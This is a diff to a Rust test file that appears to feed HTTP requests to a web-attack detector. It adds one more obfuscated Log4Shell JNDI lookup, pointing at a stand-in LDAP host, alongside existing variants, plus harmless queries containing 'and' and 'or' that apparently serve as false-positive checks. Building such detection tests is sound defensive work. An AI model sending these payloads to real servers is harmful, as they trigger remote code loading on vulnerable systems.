@@ -95,6 +95,7 @@ fn web_cases() -> Vec<Case> {
                     "Cookie: s=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.5/a}",
                 ),
                 header("User-Agent: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.5/a}"),
+                header("User-Agent: ${${date:'j'}${date:'n'}di:ldap://203.0.113.5/a}"),
                 get("/?x=$%7Bjndi:ldap://203.0.113.5/a%7D"),
                 get("/?x=%24%7B%24%7Blower:j%7Dndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D"),
             ],
@@ -136,6 +137,9 @@ fn web_cases() -> Vec<Case> {
                 get("/odata/Items?$filter=Name%20eq%20'a'%20or%20Name%20eq%20'b'"),
                 get("/list?a=1&or=1&b=2"),
                 get("/search?q='rock+and+roll'&year=1950"),
+                get("/search?q=%22war+and+peace%22+or+%221984%22&sort=asc"),
+                get("/shop?cat=shoes+and+size=42"),
+                get("/report?filter=total%3E100+and+7%3D7days"),
             ],
         ),
         web(
